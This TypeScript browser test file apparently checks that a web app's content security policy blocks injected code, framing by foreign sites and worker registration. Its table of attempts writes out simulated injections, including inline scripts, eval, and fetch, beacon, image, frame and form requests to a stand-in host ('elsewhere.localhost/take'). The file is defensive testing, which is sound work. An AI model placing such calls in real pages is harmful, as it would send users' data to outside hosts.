import { expect } from 'vitest'
import { test } from './browser.ts'
import { withMock } from './scenario.ts'
import { expectSession, link, seeCalendar, signIn } from './screens.ts'
import { serveFiles } from './harness/small-site.ts'

const routes = ['', 'calendar', 'profile', 'flow', 'setup', 'signed-out', 'no-such-page']

for (const language of ['en', 'ko', 'ja']) {
  test(`every route in ${language}, light and dark, keeps the policy and an untroubled console`, async ({ person }) => {
    const { page } = person
    const { site } = await withMock({ allowed: ['calendar'] })
    person.forgive(/status of 404 .*no-such-page/)
    const walk = async () => {
      for (const route of routes) {
        await page.goto(`${site.url(route)}?lang=${language}`)
        await page.getByRole('heading').first().waitFor()
        await expect.poll(() => page.locator('html').getAttribute('lang')).toBe(language)
        await page.emulateMedia({ colorScheme: 'dark' })
        await page.emulateMedia({ colorScheme: 'light' })
      }
    }
    await walk()
    await page.goto(`${site.url()}?lang=en`)
    await signIn(page)
    await seeCalendar(page)
    await walk()
  })
}

/** What injected code would try, each with the directive that has to stop it. */
const attempts: Record<string, { directive: RegExp; attempt: string | (() => unknown) }> = {
  'an inline script': {
    directive: /script-src-elem|require-trusted-types-for/,
    attempt: () => {
      const script = document.createElement('script')
      script.append('window.injected = true')
      document.head.append(script)
    },
  },
  eval: {
    directive: /script-src|require-trusted-types-for/,
    // In a turn of its own: what the debugger itself evaluates is above the policy.
    attempt: "void setTimeout(() => { try { eval('window.injected = true') } catch { return } })",
  },
  'a request to a stranger': {
    directive: /connect-src/,
    attempt: () => fetch('http://elsewhere.localhost/take').catch(() => 'refused'),
  },
  'a beacon to a stranger': {
    directive: /connect-src/,
    attempt: () => navigator.sendBeacon('http://elsewhere.localhost/take', 'x'),
  },
  'an image of a stranger': {
    directive: /img-src/,
    attempt: () => {
      new Image().src = 'http://elsewhere.localhost/take.png'
    },
  },
  'a frame of a stranger': {
    directive: /frame-src/,
    attempt: () => {
      const frame = document.createElement('iframe')
      frame.src = 'http://elsewhere.localhost/'
      document.body.append(frame)
    },
  },
  'a form to a stranger': {
    directive: /form-action/,
    attempt: () => {
      const form = document.createElement('form')
      form.action = 'http://elsewhere.localhost/take'
      document.body.append(form)
      form.submit()
    },
  },
  'a base address of a stranger': {
    directive: /base-uri/,
    attempt: () => {
      const base = document.createElement('base')
      base.href = 'http://elsewhere.localhost/'
      document.head.append(base)
    },
  },
  'markup as text': {
    directive: /require-trusted-types-for/,
    attempt: () => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<b>injected</b>')
      } catch {
        return 'refused'
      }
      return undefined
    },
  },
  'another policy for trusted types': {
    directive: /trusted-types/,
    attempt: () => {
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (...values: unknown[]) => void } }
      try {
        trustedTypes.createPolicy('vault', { createScriptURL: (url: string) => url })
      } catch {
        return 'refused'
      }
      return undefined
    },
  },
}

test('the policy stops all that injected code would try', async ({ person }) => {
  const { site } = await withMock()
  person.forgive(/./)
  for (const [name, { directive, attempt }] of Object.entries(attempts)) {
    // A page of its own for each: what is still to be heard of the last attempt is heard of no more.
    await person.page.goto(site.url())
    await expectSession(person.page, 'signed-out')
    const before = person.sightings.length
    await person.page.evaluate(attempt)
    const violations = () =>
      person.sightings.slice(before).filter(({ kind, text }) => kind === 'policy-violation' && directive.test(text))
    await expect.poll(() => violations().length, { message: name }).toBeGreaterThan(0)
    expect(await person.page.evaluate(() => 'injected' in window), name).toBe(false)
    expect(
      person.network.exchanges.filter(({ url }) => url.includes('elsewhere')),
      name,
    ).toEqual([])
  }
})

test('neither a service worker nor a worker from a blob can be started', async ({ person }) => {
  const { site } = await withMock()
  person.forgive(/./)
  await person.page.goto(site.url())
  await expectSession(person.page, 'signed-out')
  const started = await person.page.evaluate(async () => {
    const starts = [
      () => navigator.serviceWorker.register('/vault.js'),
      () => navigator.serviceWorker.register('/sw.js'),
      () => new Worker(URL.createObjectURL(new Blob(['']))),
      () => new SharedWorker('data:text/javascript,'),
    ]
    const outcomes: string[] = []
    for (const start of starts) {
      try {
        await start()
        outcomes.push('started')
      } catch (error) {
        outcomes.push(error instanceof Error ? error.name : 'refused')
      }
    }
    return { outcomes, registrations: (await navigator.serviceWorker.getRegistrations()).length }
  })
  expect(started.outcomes).not.toContain('started')
  expect(started.registrations).toBe(0)
})

test('in a frame of a stranger the app shows nothing', async ({ person }) => {
  const { site } = await withMock()
  const stranger = await serveFiles({
    'index.html': `<!doctype html><link rel="icon" href="data:,"><iframe src="${site.url()}"></iframe>`,
  })
  person.forgive(/frame-ancestors|X-Frame-Options|chrome-error|ERR_BLOCKED_BY_RESPONSE/)
  await person.page.goto(stranger.url())
  const frame = person.page.frames()[1]
  expect(
    await frame
      ?.locator('body')
      .textContent()
      .catch(() => ''),
  ).not.toContain('Continue with')
})

test('the pages link to nothing and load nothing from elsewhere', async ({ person }) => {
  const { site, mock } = await withMock()
  await person.page.goto(site.url())
  await signIn(person.page)
  await link(person.page, 'Profile').click()
  const origins = new Set(person.network.exchanges.map(({ url }) => new URL(url).origin))
  expect([...origins].toSorted()).toEqual([site.origin, mock.origin].toSorted())
})
